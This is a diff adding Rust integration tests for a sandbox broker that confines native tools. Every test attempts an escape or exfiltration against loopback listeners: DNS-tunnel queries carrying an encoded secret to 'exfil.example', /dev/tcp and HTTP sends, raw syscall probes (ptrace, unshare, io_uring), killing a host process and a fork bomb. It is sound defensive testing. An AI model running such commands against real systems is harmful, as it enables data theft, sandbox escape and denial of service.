@@ -1,0 +1,177 @@
+//! Native tools' egress through the broker, and the kernel-level attack classes. Positive
+//! controls run the same attack unconfined on the host (or with the capability granted), and
+//! every verdict comes from what a loopback listener received.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+use std::process::Command;
+use support::*;
+
+fn bash(flags: &[&str], script: &str) -> Run {
+    let mut args = vec!["run"];
+    args.extend_from_slice(flags);
+    args.extend(["/bin/bash", "--", "-c", script]);
+    run(&args)
+}
+
+fn python(flags: &[&str], code: &str) -> Run {
+    let mut args = vec!["run"];
+    args.extend_from_slice(flags);
+    args.extend(["/usr/bin/python3", "--", "-c", code]);
+    run(&args)
+}
+
+fn host_bash(script: &str) -> std::process::Output {
+    Command::new("/bin/bash").args(["-c", script]).output().unwrap()
+}
+
+#[test]
+fn tcp_by_ip_reaches_a_declared_endpoint_through_a_relay() {
+    let sink = TcpSink::start("127.0.0.1");
+    let ep = sink.addr.to_string();
+    let send = |tag: &str| format!("echo {tag} > /dev/tcp/127.0.0.1/{}", sink.addr.port());
+    let r = bash(&[], &send("undeclared"));
+    assert_ne!(r.code, 0);
+    assert!(!sink.received().contains("undeclared"));
+    let r = bash(&["--allow-net", &ep], &send("declared"));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(sink.received().contains("declared\n"));
+    assert!(r.audit.iter().any(|e| e["event"] == "allow" && e["capability"] == "net.connect"));
+}
+
+#[test]
+fn another_ip_on_a_declared_port_is_refused_by_the_broker() {
+    let declared = TcpSink::start("127.0.0.1");
+    let other = TcpSink::start_at(&format!("127.0.0.2:{}", declared.addr.port()));
+    let send = format!("echo sneaky > /dev/tcp/127.0.0.2/{}", declared.addr.port());
+    // The relay inside accepts the connection (it cannot know the destination before), then
+    // the broker refuses it: the listener is the judge.
+    let r = bash(&["--allow-net", &declared.addr.to_string()], &send);
+    assert!(other.received().is_empty());
+    assert_eq!(r.denials("net.connect")[0]["target"], format!("tcp://{}", other.addr));
+    // Positive control: declared, the same connection arrives.
+    let r = bash(&["--allow-net", &other.addr.to_string()], &send);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(other.received().contains("sneaky"));
+}
+
+#[test]
+fn names_resolve_only_when_declared_and_no_query_leaves_for_others() {
+    let sink = TcpSink::start("127.0.0.1");
+    // The server answers a documentation address: public, never dialled.
+    let dns = DnsSink::start(Some("203.0.113.7".parse().unwrap()));
+    let port = sink.addr.port();
+    let resolver = dns.addr.to_string();
+    let ep = format!("svc.example.net:{port}");
+    // A declared, pinned name leads to the listener.
+    let r = bash(
+        &["--allow-net", &ep, "--resolve", "svc.example.net:127.0.0.1"],
+        &format!("echo by-name > /dev/tcp/svc.example.net/{port}"),
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(sink.received().contains("by-name"));
+    // An undeclared name: NXDOMAIN inside, and the DNS server never hears of it.
+    let r = bash(
+        &["--resolver", &resolver, "--allow-net", &ep],
+        "getent hosts 736563726574.exfil.example || echo nxdomain",
+    );
+    assert!(r.stdout.contains("nxdomain"), "{}", r.stdout);
+    assert!(dns.questions().is_empty(), "{:?}", dns.questions());
+    // Positive control: declared by pattern, the query (with its payload) reaches the server.
+    let r = bash(
+        &["--resolver", &resolver, "--allow-net", "*.exfil.example:443"],
+        "getent hosts 736563726574.exfil.example",
+    );
+    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    assert!(dns.questions().iter().any(|q| q == "736563726574.exfil.example"));
+}
+
+#[test]
+fn the_http_proxy_checks_each_origin() {
+    let web = HttpSink::start(None);
+    let other = HttpSink::start(None);
+    let fetch = |url: &str| {
+        format!(
+            "import urllib.request\ntry:\n print(urllib.request.urlopen('{url}').read().decode())\nexcept Exception as e:\n print('blocked', e)"
+        )
+    };
+    let origin = format!("http://{}", web.addr);
+    let r = python(&["--allow-net", &origin], &fetch(&web.url("/ok")));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stdout.contains(&format!("hello from {}", web.addr.port())), "{}", r.stdout);
+    assert!(web.requests()[0].starts_with("GET /ok "));
+    let r = python(&["--allow-net", &origin], &fetch(&other.url("/stolen")));
+    assert!(r.stdout.contains("blocked") && r.stdout.contains("403"), "{}", r.stdout);
+    assert!(other.requests().is_empty());
+    assert_eq!(r.denials("net.http").len(), 1);
+}
+
+#[test]
+fn udp_and_ipv6_do_not_leave() {
+    let udp = UdpSink::start();
+    let v6 = TcpSink::start("::1");
+    let send_udp = format!("echo datagram > /dev/udp/127.0.0.1/{}", udp.addr.port());
+    let send_v6 = format!("echo v6 > /dev/tcp/::1/{}", v6.addr.port());
+    // Controls: on the host both arrive.
+    host_bash(&send_udp);
+    host_bash(&send_v6);
+    assert_eq!(udp.received(), vec!["datagram\n"]);
+    assert!(v6.received().contains("v6"));
+    let udp = UdpSink::start();
+    let v6 = TcpSink::start("::1");
+    bash(&[], &format!("echo datagram > /dev/udp/127.0.0.1/{}", udp.addr.port()));
+    bash(&[], &format!("echo v6 > /dev/tcp/::1/{}", v6.addr.port()));
+    assert!(udp.received().is_empty());
+    assert!(v6.received().is_empty());
+}
+
+/// Python that calls a raw syscall and prints its result (negative errno on failure).
+fn syscall_probe(body: &str) -> String {
+    format!(
+        "import ctypes, os, socket\nlibc = ctypes.CDLL(None, use_errno=True)\ndef sc(*a):\n r = libc.syscall(*a)\n return r if r >= 0 else -ctypes.get_errno()\n{body}"
+    )
+}
+
+#[test]
+fn dangerous_kernel_interfaces_are_refused() {
+    let probes = [
+        // (what, python that prints "ok" when the attack works)
+        ("netlink socket", "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('ok')"),
+        ("io_uring_setup", "p = ctypes.create_string_buffer(120); print('ok' if sc(425, 4, p) >= 0 else 'no')"),
+        ("ptrace", "print('ok' if sc(101, 0, 0, 0, 0) == 0 else 'no')"),
+        ("unshare", "print('ok' if sc(272, 0x10000000) == 0 else 'no')"),
+        ("personality", "print('ok' if sc(135, 0xffffffff) >= 0 else 'no')"),
+    ];
+    for (what, code) in probes {
+        let code = syscall_probe(&format!("try:\n {code}\nexcept Exception as e:\n print('no', e)"));
+        // Control: unconfined, the interface is there.
+        let host = Command::new("/usr/bin/python3").args(["-c", &code]).output().unwrap();
+        assert!(
+            String::from_utf8_lossy(&host.stdout).starts_with("ok"),
+            "{what} control: {}",
+            String::from_utf8_lossy(&host.stdout)
+        );
+        let r = python(&[], &code);
+        assert!(r.stdout.starts_with("no"), "{what} must be refused: {}{}", r.stdout, r.stderr);
+    }
+}
+
+#[test]
+fn host_processes_cannot_be_signalled() {
+    let mut victim = Command::new("/bin/sleep").arg("30").spawn().unwrap();
+    let pid = victim.id();
+    let r = bash(&[], &format!("kill -TERM {pid} && echo killed || echo refused"));
+    assert!(r.stdout.contains("refused"), "{}", r.stdout);
+    assert!(victim.try_wait().unwrap().is_none(), "the host process must still run");
+    // Control: unconfined, the same kill works.
+    assert!(host_bash(&format!("kill -TERM {pid}")).status.success());
+    assert!(victim.wait().is_ok());
+}
+
+#[test]
+fn a_fork_bomb_hits_the_process_limit() {
+    let code = "import os\nok = 0\nfor i in range(400):\n try:\n  if os.fork() == 0:\n   import time; time.sleep(3); os._exit(0)\n  ok += 1\n except OSError:\n  break\nprint(ok)";
+    let r = python(&["--timeout", "10s"], code);
+    let forked: u32 = r.stdout.trim().parse().unwrap_or(0);
+    assert!(forked > 10 && forked < 300, "forked {forked}: {}", r.stderr);
+}
